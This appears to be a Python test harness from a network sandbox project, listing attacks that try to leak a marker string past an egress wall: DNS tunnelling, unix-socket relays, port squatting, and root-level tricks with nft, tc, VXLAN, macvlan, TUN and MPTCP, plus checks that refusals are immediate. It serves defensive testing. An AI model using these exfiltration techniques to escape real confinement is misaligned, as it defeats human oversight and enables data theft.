# SPDX-License-Identifier: BSD-2-Clause
"""attacks.py --list | attacks.py NAME: attacks that need no C. As those, they are judged outside.

Flags as in attack.h; and "http": judged by what the origins were asked for (oracle.py); "once": as one
user in each setting, for rights have no part in it."""
import ctypes
import fcntl
import os
import socket
import struct
import subprocess
import sys
import time

ATTACKS = {}
MARK = os.environ.get("MARK", "")
PORT = int(os.environ.get("PORT", "0"))
V4, V6 = os.environ.get("V4"), os.environ.get("V6")
HOST4 = os.environ.get("HOST4")
ONLINK6 = os.environ.get("ONLINK6")
RESOLVER = "203.0.113.2"
PROXY_PORT = int(os.environ.get("PROXY_PORT", "0"))
DNS_PORT = int(os.environ.get("DNS_PORT", "0") or 0)
SYNTHETIC = os.environ.get("SYNTHETIC", "")  # the bottle's address of api.example.test
UPLINK = os.environ.get("UPLINK", "0")  # the host's own wire, by its index there
IP_LOCAL_PORT_RANGE = 51


def attack(purpose, flags=""):
    def add(function):
        ATTACKS[function.__name__] = (flags, purpose, function)
        return function
    return add


# ---- DNS ----------------------------------------------------------------------------------------

def labels(*names):
    parts = [x.encode() if isinstance(x, str) else x for name in names for x in name.split(".")]
    return b"".join(bytes([len(x)]) + x for x in parts) + b"\0"


def query(name, kind=1, questions=1, more=b"", additional=0, number=0x1234):
    return (struct.pack("!6H", number, 0x0100, questions, 0, 0, additional) + labels(name)
            + struct.pack("!2H", kind, 1) + more)


def dns_udp(data, server=None, port=53):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(0.3)
        s.sendto(data, (server or V4, port))
        try:
            return s.recv(4096)
        except OSError as error:
            print(error)
            return b""


def tcp(address, port, seconds=1.0, family=socket.AF_INET):
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(seconds)
    s.connect((address, port))
    return s


def dns_tcp(*messages, pieces=False):
    """To the origin's address, where nobody answers on 53: the SYN alone would show PORT only."""
    s = tcp("203.0.113.10", 53)
    data = b"".join(struct.pack("!H", len(m)) + m for m in messages)
    for piece in (data[:1], data[1:2], data[2:9], data[9:]) if pieces else (data,):
        s.sendall(piece)
        time.sleep(0.002)
    try:
        print(s.recv(4096)[:20])
    except OSError as error:
        print(error)
    s.close()


@attack("DNS by UDP to a server of one's own: the name carries the data")
def dns_udp_own_server():
    dns_udp(query(f"{MARK}.example.test"))


@attack("DNS by UDP to the configured resolver")
def dns_udp_resolver():
    dns_udp(query(f"{MARK}.example.test"), RESOLVER)


@attack("a name below an allowed one carries the data")
def dns_below_allowed():
    dns_udp(query(f"{MARK}.api.example.test"), RESOLVER)


@attack("names of the longest labels there are")
def dns_long_labels():
    label = (MARK + "-" * 80)[:63]
    dns_udp(query(f"{label}.{label}.{label}.test"), RESOLVER)


@attack("TXT, NULL, ANY, MX, HTTPS, CNAME and SRV of names that carry the data")
def dns_types():
    for kind in (16, 10, 255, 15, 65, 5, 33):
        dns_udp(query(f"{MARK}.example.test", kind), RESOLVER)
        dns_udp(query(f"{MARK}.wild.example.test", kind), RESOLVER)


@attack("two questions in one message, the second carries the data")
def dns_two_questions():
    second = labels(f"{MARK}.example.test") + struct.pack("!2H", 1, 1)
    dns_udp(query("api.example.test", questions=2, more=second), RESOLVER)


@attack("an allowed name, and the data in an EDNS option")
def dns_edns_option():
    option = struct.pack("!2H", 65001, len(MARK)) + MARK.encode()
    record = b"\0" + struct.pack("!2HIH", 41, 1232, 0, len(option)) + option
    dns_udp(query("api.example.test", more=record, additional=1), RESOLVER)


@attack("DNS to port 5353 of a server of one's own")
def dns_other_port():
    dns_udp(query(f"{MARK}.example.test"), port=5353)


@attack("multicast DNS")
def dns_multicast():
    dns_udp(query(f"{MARK}.local"), "224.0.0.251", 5353)


@attack("anything at all in a datagram to port 53")
def dns_not_dns():
    dns_udp(MARK.encode() * 20)


@attack("DNS by IPv6, and to a mapped address")
def dns_six():
    for address in (V6, "::ffff:" + V4):
        with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as s:
            s.sendto(query(f"{MARK}.example.test"), (address, 53))


@attack("getaddrinfo() of a name that carries the data")
def dns_getaddrinfo():
    try:
        socket.getaddrinfo(f"{MARK}.example.test", 443)
    except OSError as error:
        print(error)


@attack("a thousand random names under a wildcard, none of them connected to")
def dns_thousand_names():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.connect((RESOLVER, 53))
        for number in range(1000):
            try:
                s.send(query(f"{MARK}{number}.wild.example.test", number=number))
            except OSError:
                pass
            if number % 50 == 0:
                time.sleep(0.01)


@attack("a name under a wildcard is connected to: our own resolver asks for it")
def dns_wildcard_connected():
    name = f"{MARK}.wild.example.test"
    try:
        s = tcp(name, 80)
        s.sendall(f"GET / HTTP/1.1\r\nHost: {name}\r\n\r\n".encode())
        print(s.recv(200))
    except OSError as error:
        print(error)


@attack("DNS by TCP", "stream53")
def dns_tcp_plain():
    dns_tcp(query(f"{MARK}.example.test"))


@attack("DNS by TCP: an allowed query, and behind it one that carries the data", "stream53")
def dns_tcp_pipelined():
    dns_tcp(query("api.example.test"), query(f"{MARK}.example.test"))


@attack("DNS by TCP, its length and header cut in pieces", "stream53")
def dns_tcp_split():
    dns_tcp(query("api.example.test"), query(f"{MARK}.example.test"), pieces=True)


@attack("a TCP stream to port 53 that is not DNS", "stream53")
def dns_tcp_not_dns():
    s = tcp("203.0.113.10", 53)
    s.sendall(b"\xff\xff" + MARK.encode() * 3000)
    s.close()


@attack("DNS over TLS: to port 853", "")
def dns_over_tls():
    try:
        tcp(V4, PORT).close()
    except OSError as error:
        print(error)


def try_late(kind, call):
    """Unix sockets that are bound outside while we look, each for two seconds."""
    directory, names = os.environ["OUTSIDE"], []
    for _ in range(6):
        names = [n for n in os.listdir(directory) if n.startswith(f"late-{kind}-")]
        for name in names:
            try:
                call(f"{directory}/{name}")
            except OSError as error:
                print(name, error)
        time.sleep(0.4)
    print(names)


def send_by(kind, path):
    with socket.socket(socket.AF_UNIX, kind) as s:
        s.connect(path)
        s.send(MARK.encode())


def send_to(path):
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as s:
        s.sendto(MARK.encode(), path)


@attack("a process outside relays from a unix socket whose path is younger than the bottle")
def unix_relay_late():
    try_late("stream", lambda path: send_by(socket.SOCK_STREAM, path))


@attack("the same by a path that leads there in another way: relative, by a link, by /proc")
def unix_relay_late_by_another_path():
    def call(path):
        place, name = os.path.split(path)
        link = f"/tmp/link-{MARK}"
        os.chdir(place)
        send_by(socket.SOCK_STREAM, name)
        send_by(socket.SOCK_STREAM, f"/proc/self/cwd/./{name}")
        try:
            os.symlink(path, link)
            send_by(socket.SOCK_STREAM, link)
        finally:
            os.unlink(link)
    try_late("stream", call)


@attack("the same by SOCK_SEQPACKET")
def unix_relay_late_seqpacket():
    try_late("seqpacket", lambda path: send_by(socket.SOCK_SEQPACKET, path))


@attack("the same by a datagram to a path")
def unix_relay_late_dgram():
    try_late("dgram", send_to)


@attack("the same by a datagram socket that is connected to the path")
def unix_relay_late_dgram_connected():
    try_late("dgram", lambda path: send_by(socket.SOCK_DGRAM, path))


@attack("binds a path, and a process outside calls and fetches")
def unix_relay_late_pulled():
    path = f"{os.environ['OUTSIDE']}/pull/{MARK}"
    for kind in (socket.SOCK_STREAM, socket.SOCK_SEQPACKET):
        with socket.socket(socket.AF_UNIX, kind) as s:
            s.bind(path)
            try:
                os.chmod(path, 0o777)
                s.listen()
                s.settimeout(1.5)
                peer, _ = s.accept()
                peer.send(MARK.encode())
                peer.close()
            except OSError as error:
                print(error)
            finally:
                os.unlink(path)


@attack("PPP over Ethernet: a socket that sends frames, which takes no capability")
def pppoe():
    with socket.socket(24, socket.SOCK_STREAM, 0) as s:  # AF_PPPOX, PX_PROTO_OE
        name = wire().encode()
        address = struct.pack("=HIH6s16s", 24, 0, socket.htons(77), b"\2\xff\xff\xff\xff\xff", name)
        libc = ctypes.CDLL(None, use_errno=True)
        if libc.connect(s.fileno(), address, len(address)) < 0:
            sys.exit(f"connect: {os.strerror(ctypes.get_errno())}")
        s.send(b"\0\x21" + MARK.encode())


# ---- squatting on our ports ---------------------------------------------------------------------

def squat(address, port, kind=socket.SOCK_STREAM, option=None, say=True):
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    s = socket.socket(family, kind)
    for name in (socket.SO_REUSEADDR, option):
        if name:
            s.setsockopt(socket.SOL_SOCKET, name, 1)
    s.bind((address, port))
    if kind == socket.SOCK_STREAM:
        s.listen(8)
    if say:
        print(f"BREACH: squats on {address} port {port}")
    return s


@attack("binds the proxy's port on 127.0.0.1 when we are dead", "inside dead serial")
def squat_proxy4():
    squat("127.0.0.1", PROXY_PORT)


@attack("binds the proxy's port on ::1 when we are dead", "inside dead serial")
def squat_proxy6():
    squat("::1", PROXY_PORT)


@attack("binds the proxy's port on another loopback address", "inside serial")
def squat_proxy_neighbour():
    squat("127.0.0.2", PROXY_PORT)


@attack("binds the proxy's port on ::ffff:127.0.0.3", "inside serial")
def squat_proxy_mapped():
    squat("::ffff:127.0.0.3", PROXY_PORT)


@attack("binds the responder's port by UDP when we are dead", "inside dead serial")
def squat_dns4():
    squat("127.0.0.1", DNS_PORT, socket.SOCK_DGRAM)


@attack("binds the responder's port by UDP on ::1 when we are dead", "inside dead serial")
def squat_dns6():
    squat("::1", DNS_PORT, socket.SOCK_DGRAM)


@attack("gets the responder's port without naming it: IP_LOCAL_PORT_RANGE picks it",
        "inside dead serial")
def squat_by_port_range():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.IPPROTO_IP, IP_LOCAL_PORT_RANGE,
                 struct.pack("=2H", DNS_PORT, DNS_PORT))
    s.bind(("127.0.0.1", 0))
    if s.getsockname()[1] != DNS_PORT:
        sys.exit(f"another port was picked: {s.getsockname()[1]}, not {DNS_PORT}")
    s.settimeout(1)
    for address in ((V4, 53), ("127.0.0.1", DNS_PORT)):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
            out.settimeout(1)
            try:
                out.sendto(query("a.secret.of.another.process"), address)
            except OSError as error:
                print(error)
    if s.recv(100):
        print("BREACH: a squatter on our port got a query that was meant for us")


@attack("somebody outside squats on the proxy's port when we are dead, and relays",
        "dead serial shared squatted")
def squat_by_outsider():
    for address, port in (("127.0.0.1", PROXY_PORT), (SYNTHETIC, 443)):
        try:
            s = tcp(address, port)
            s.sendall(MARK.encode())
            s.close()
        except OSError as error:
            print(error)
    time.sleep(0.3)


@attack("somebody outside squats on the responder's port when we are dead, and relays",
        "dead serial shared squatted")
def squat_dns_by_outsider():
    for address, port in (("127.0.0.1", DNS_PORT), (V4, 53)):
        try:
            dns_udp(query(f"{MARK}.example.test"), address, port)
        except OSError as error:
            print(error)
    time.sleep(0.3)


# ---- what only root may do to the network -------------------------------------------------------

def run(*command):
    result = subprocess.run(command, capture_output=True, text=True, check=False)
    if result.returncode:
        print(" ".join(command), result.stderr.strip())
    return result.returncode == 0


def wire():
    names = [n for _, n in socket.if_nameindex() if n != "lo"]
    return names[0] if names else "lo"


def send4(address, port=None):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(MARK.encode(), (address, port or PORT))


@attack("gives itself an address that is the data: the kernel asks whether it is free", "serial")
def net_address():
    if run("ip", "-6", "addr", "add", ONLINK6 + "/64", "dev", wire()):
        time.sleep(1.2)
        run("ip", "-6", "addr", "del", ONLINK6 + "/64", "dev", wire())


@attack("routes a part of 127/8 to the wire", "serial")
def net_route_loopback():
    here = wire()
    if here == "lo":
        sys.exit("there is no wire; on loopback it would only break that")
    run("ip", "route", "add", "127.9.9.0/24", "dev", here, "table", "local")
    run("ip", "neigh", "replace", "127.9.9.9", "lladdr", "ff:ff:ff:ff:ff:ff", "dev", here)
    try:
        send4("127.9.9.9")
    finally:
        run("ip", "route", "del", "127.9.9.0/24", "dev", here, "table", "local")


@attack("a tc filter on loopback redirects to the wire", "serial")
def net_tc_mirred():
    run("tc", "qdisc", "add", "dev", "lo", "clsact")
    run("tc", "filter", "add", "dev", "lo", "egress", "protocol", "ip", "u32", "match", "ip",
        "dport", str(PORT), "0xffff", "action", "mirred", "egress", "redirect", "dev", wire())
    try:
        send4("127.0.0.1")
    finally:
        run("tc", "qdisc", "del", "dev", "lo", "clsact")


@attack("VXLAN: the kernel wraps what its interface says", "serial")
def net_vxlan():
    if not run("ip", "link", "add", "vxattack", "type", "vxlan", "id", "42", "remote",
               "203.0.113.10", "dstport", "4789"):
        return
    run("ip", "link", "set", "vxattack", "up")
    run("ip", "-6", "addr", "add", ONLINK6 + "/64", "dev", "vxattack")
    time.sleep(1.2)
    run("ip", "link", "del", "vxattack")


@attack("VXLAN with a socket's own traffic inside", "serial")
def net_vxlan_data():
    if not run("ip", "link", "add", "vxattack", "type", "vxlan", "id", "43", "remote",
               "203.0.113.10", "dstport", "4789"):
        return
    run("ip", "addr", "add", "198.51.100.129/25", "dev", "vxattack")
    run("ip", "link", "set", "vxattack", "up")
    run("ip", "neigh", "replace", "198.51.100.130", "lladdr", "02:00:00:00:00:01", "dev",
        "vxattack")
    try:
        send4("198.51.100.130")
    finally:
        run("ip", "link", "del", "vxattack")


@attack("a route that wraps what goes to loopback in IPv6 with segments", "serial")
def net_seg6():
    here = wire()
    if here == "lo":
        sys.exit("there is no wire; on loopback it would only break that")
    if not run("ip", "route", "add", "127.8.8.0/24", "encap", "seg6", "mode", "encap", "segs", V6, "dev",
               here, "table", "local"):
        return
    try:
        send4("127.8.8.8")
    finally:
        run("ip", "route", "del", "127.8.8.0/24", "dev", here, "table", "local")


@attack("has the kernel look for a neighbour whose address is the data, by netlink", "serial")
def net_neighbour_use():
    # ndmsg with NTF_USE and NUD_NONE, and NDA_DST: ip(8) cannot say it
    attribute = struct.pack("=HH16s", 20, 1, socket.inet_pton(socket.AF_INET6, ONLINK6))
    head = struct.pack("=BxxxiHBB", socket.AF_INET6, socket.if_nametoindex(wire()), 0, 1, 0)
    body = head + attribute
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as s:
        s.send(struct.pack("=IHHII", 16 + len(body), 28, 0x405, 1, 0) + body)
        print(struct.unpack_from("=i", s.recv(4096), 16))
    time.sleep(0.5)


@attack("a macvlan beside the wire", "serial")
def net_macvlan():
    if not run("ip", "link", "add", "link", wire(), "name", "mvattack", "type", "macvlan"):
        return
    run("ip", "addr", "add", "203.0.113.50/24", "dev", "mvattack")
    run("ip", "link", "set", "mvattack", "up")
    run("ip", "neigh", "replace", "203.0.113.10", "lladdr", "ff:ff:ff:ff:ff:ff", "dev", "mvattack")
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"mvattack\0")
        s.sendto(MARK.encode(), ("203.0.113.10", PORT))
    finally:
        run("ip", "link", "del", "mvattack")


@attack("a macvlan beside the host's own wire, by the id that its namespace has in here", "serial")
def net_macvlan_outside():
    if not (run("ip", "link", "add", "link", f"if{UPLINK}", "link-netnsid", "0", "name", "mvoutside",
                "type", "macvlan")
            or run("ip", "link", "add", "link", wire(), "name", "mvoutside", "type", "macvlan")):
        return
    run("ip", "link", "set", "mvoutside", "up")
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    try:
        frame = b"\xff" * 6 + b"\2\0\0\0\0\xb1" + b"\x88\xb5" + MARK.encode()
        s.sendto(frame, ("mvoutside", 0))
    finally:
        run("ip", "link", "del", "mvoutside")


def attribute(kind, value):
    return struct.pack("=HH", 4 + len(value), kind) + value + b"\0" * (-len(value) % 4)


@attack("the same in one message, and frames before anybody can take it away", "serial")
def net_macvlan_at_once():
    frames = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    ask = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
    frame = b"\xff" * 6 + b"\2\0\0\0\0\xb3" + b"\x88\xb5" + MARK.encode()
    kind = attribute(18, attribute(1, b"macvlan\0"))  # IFLA_LINKINFO, IFLA_INFO_KIND
    outside = [attribute(5, struct.pack("=I", int(UPLINK))), attribute(37, struct.pack("=i", 0))]
    for below in (outside, [attribute(5, struct.pack("=I", socket.if_nametoindex(wire())))]):
        body = (struct.pack("=BxHiII", 0, 0, 0, 1, 1) + attribute(3, b"mvatonce\0") + kind
                + b"".join(below))  # IFF_UP; IFLA_IFNAME, IFLA_LINK, IFLA_LINK_NETNSID
        ask.send(struct.pack("=IHHII", 16 + len(body), 16, 0x605, 1, 0) + body)
        answer = struct.unpack_from("=i", ask.recv(4096), 16)[0]
        if answer:
            print(os.strerror(-answer))
            continue
        try:
            for _ in range(20):
                frames.sendto(frame, ("mvatonce", 0))
        except OSError as error:
            print(error)
        run("ip", "link", "del", "mvatonce")
        return


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


@attack("TUN: packets that the kernel forwards, from no socket", "serial")
def net_tun():
    tun = os.open("/dev/net/tun", os.O_RDWR)
    fcntl.ioctl(tun, 0x400454CA, struct.pack("16sH22x", b"tunattack", 0x1001))  # TUNSETIFF
    run("ip", "addr", "add", "198.51.100.200/32", "dev", "tunattack")
    run("ip", "link", "set", "tunattack", "up")
    run("ip", "route", "add", "198.51.100.201/32", "dev", "tunattack")
    for path in ("/proc/sys/net/ipv4/ip_forward",):
        try:
            with open(path, "w", encoding="utf-8") as file:
                file.write("1")
        except OSError as error:
            print(error)
    payload = MARK.encode()
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 28 + len(payload), 1, 0, 64, 17, 0,
                       socket.inet_aton("198.51.100.201"), socket.inet_aton(V4))
    head = head[:10] + struct.pack("!H", checksum(head)) + head[12:]
    os.write(tun, head + struct.pack("!4H", 4711, PORT, 8 + len(payload), 0) + payload)
    time.sleep(0.2)
    os.close(tun)


def with_nft(rules, family="ip"):
    """A datagram to loopback while the rules of a table `attack` are in force."""
    if not run("nft", f"table {family} attack {{\n{rules}\n}}"):
        return
    try:
        send4("127.0.0.1")
    finally:
        run("nft", "delete", "table", family, "attack")


@attack("nft translates loopback into the outside", "serial")
def net_nft_dnat():
    run("sh", "-c", "echo 1 >/proc/sys/net/ipv4/conf/all/route_localnet")
    with_nft(f"chain out {{ type nat hook output priority -100;\nudp dport {PORT} dnat to {V4}\n}}\n"
             "chain post { type nat hook postrouting priority 100;\nmasquerade\n}")


@attack("nft writes another destination into a packet to loopback", "serial")
def net_nft_rewrite():
    with_nft(f"chain out {{ type route hook output priority -100;\nudp dport {PORT} "
             f"ip saddr set {HOST4} ip daddr set {V4} meta mark set 7\n}}")


@attack("nft copies a packet to loopback to the outside", "serial")
def net_nft_dup():
    with_nft(f"chain out {{ type filter hook output priority 0;\nudp dport {PORT} "
             f"dup to {V4} device \"{wire()}\"\n}}")


@attack("nft forwards what arrives on loopback to the wire", "serial")
def net_nft_forward():
    with_nft(f"chain in {{ type filter hook ingress device lo priority 0;\nudp dport {PORT} "
             f"fwd to \"{wire()}\"\n}}", "netdev")


@attack("MPTCP on loopback: the kernel opens a subflow to the address that the peer announces",
        "serial")
def mptcp_subflow():
    run("sh", "-c", "echo 1 >/proc/sys/net/mptcp/enabled")
    run("ip", "mptcp", "limits", "set", "subflows", "2", "add_addr_accepted", "2")
    run("ip", "mptcp", "endpoint", "add", V4, "signal", "id", "7")
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262) as server, \
                socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262) as client:
            server.bind(("127.0.0.1", PORT))
            server.listen()
            client.connect(("127.0.0.1", PORT))
            peer, _ = server.accept()
            for _ in range(5):
                client.sendall(b"x")
                peer.sendall(peer.recv(9))
                time.sleep(0.1)
    finally:
        run("ip", "mptcp", "endpoint", "flush")


# ---- what the wall promises besides: at once, and without a trace --------------------------------

def prompt(kind, address, errors):
    """Refused at once by an errno of policy, before anything is sent."""
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    s = socket.socket(family, kind)
    s.settimeout(2)
    began = time.monotonic()
    try:
        if kind == socket.SOCK_STREAM:
            s.connect((address, PORT))
        else:
            s.sendto(b"x", (address, PORT))
        print("BREACH: not refused")
    except OSError as error:
        if error.errno not in errors or time.monotonic() - began > 0.5:
            print(f"BREACH: not refused at once by policy but: {error}")
        else:
            print(error)


@attack("TCP over IPv4 is refused by connect() itself", "inside")
def promise_connect4():
    prompt(socket.SOCK_STREAM, V4, (1,))


@attack("TCP over IPv6 is refused by connect() itself", "inside")
def promise_connect6():
    prompt(socket.SOCK_STREAM, V6, (1,))


@attack("TCP to a mapped address is refused by connect() itself", "inside")
def promise_connect_mapped():
    prompt(socket.SOCK_STREAM, "::ffff:" + V4, (1,))


@attack("UDP over IPv4 is refused by sendto() itself", "inside")
def promise_sendmsg4():
    prompt(socket.SOCK_DGRAM, V4, (1, 111))


@attack("UDP over IPv6 is refused by sendto() itself", "inside")
def promise_sendmsg6():
    prompt(socket.SOCK_DGRAM, V6, (1, 111))


def promise_socket(family, kind, protocol):
    try:
        socket.socket(family, kind, protocol)
        print(f"BREACH: a socket of protocol {protocol} was made")
    except OSError as error:
        print(error)


@attack("UDP-Lite and MPTCP sockets cannot be made", "inside")
def promise_sock_create():
    promise_socket(socket.AF_INET, socket.SOCK_DGRAM, 136)
    promise_socket(socket.AF_INET, socket.SOCK_STREAM, 262)
    promise_socket(socket.AF_INET6, socket.SOCK_DGRAM, 136)


@attack("raw and ping sockets cannot be made", "inside")
def promise_sock_create_raw():
    promise_socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    promise_socket(socket.AF_INET, socket.SOCK_RAW, 253)


def masked(family, address):
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(2)
    try:
        s.connect((address, 443))
    except OSError as error:
        print(error)
        return
    peer = s.getpeername()[0]
    print("BREACH: getpeername() shows where it was steered" if peer != address else peer)


@attack("a steered connection's getpeername() shows the address asked for, IPv4",
        "inside masked alive")
def mask_peer4():
    masked(socket.AF_INET, SYNTHETIC)


@attack("a steered connection's getpeername() shows the address asked for, mapped",
        "inside masked alive")
def mask_peer6():
    masked(socket.AF_INET6, "::ffff:" + SYNTHETIC)


def masked_dns(family, address):
    s = socket.socket(family, socket.SOCK_DGRAM)
    s.settimeout(2)
    try:
        s.sendto(query("api.example.test"), (address, 53))
        _, sender = s.recvfrom(4096)
    except OSError as error:
        print(f"BREACH: no answer from the server that was asked: {error}")
        return
    same = socket.inet_pton(family, sender[0]) == socket.inet_pton(family, address)
    print(sender if same else f"BREACH: the answer shows who sent it: {sender}")


@attack("DNS answers seem to come from the server that was asked, IPv4", "inside masked alive")
def mask_dns4():
    masked_dns(socket.AF_INET, V4)


@attack("DNS answers seem to come from the server that was asked, IPv6", "inside masked alive")
def mask_dns6():
    masked_dns(socket.AF_INET6, V6)


@attack("connections that fail leave their record behind, until there is room for no more",
        "inside masked dead residue serial")
def mask_records():
    for _ in range(200):
        try:
            tcp(SYNTHETIC, 443, 0.5).close()
        except OSError as error:
            last = error
    print(last)


def main():
    if sys.argv[1] == "--list" or sys.argv[1].startswith("game_"):
        import games  # noqa: F401  (registers its own)
        import games_h2  # noqa: F401
    if sys.argv[1] == "--list":
        for name, (flags, purpose, _) in ATTACKS.items():
            print(f"{name}\t{flags}\t{purpose}")
        return
    ctypes.CDLL(None).alarm(20)
    ATTACKS[sys.argv[1]][2]()


if __name__ == "__main__":
    sys.modules["attacks"] = sys.modules["__main__"]
    main()
